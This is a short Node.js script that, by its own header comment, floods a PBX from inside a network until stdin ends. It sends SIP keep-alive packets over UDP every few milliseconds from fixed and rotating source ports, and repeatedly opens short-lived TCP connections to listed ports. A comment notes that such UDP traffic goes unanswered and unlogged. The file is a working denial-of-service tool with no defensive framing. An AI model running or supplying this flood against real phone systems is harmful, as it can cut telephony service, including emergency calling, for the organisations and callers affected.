/**
 * Floods a PBX from inside a host's network until stdin ends. The argument is JSON, a list of `{from, to, udp, tcp}`:
 * addresses of one family and lists of ports. UDP comes from a lasting source port and from one that changes; each TCP
 * connection is new, and speaks when it is let in.
 */
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';

/** What keeps a SIP connection alive: nobody answers or logs it over UDP. */
const WORDS = '\r\n\r\n';
const UDP_MS = 4;
const NEW_PORT_MS = 500;
const TCP_MS = 40;
const TCP_LIFE_MS = 400;

for (const { from, to, udp, tcp } of JSON.parse(process.argv[2])) {
  const socket = () => createSocket(from.includes(':') ? 'udp6' : 'udp4').on('error', () => undefined);
  const bound = () => {
    const made = socket();
    return new Promise((resolve) => made.bind(0, from, () => resolve(made)));
  };
  const lasting = await bound();
  let changing = await bound();
  setInterval(() => {
    for (const port of udp) for (const each of [lasting, changing]) each.send(WORDS, port, to, () => undefined);
  }, UDP_MS);
  setInterval(async () => {
    const old = changing;
    changing = await bound();
    old.close();
  }, NEW_PORT_MS);
  setInterval(() => {
    for (const port of tcp) {
      const each = connect({ host: to, port, localAddress: from }, () => each.write(WORDS));
      each.on('error', () => undefined);
      setTimeout(() => each.destroy(), TCP_LIFE_MS);
    }
  }, TCP_MS);
}
process.stdin.on('end', () => process.exit(0)).resume();
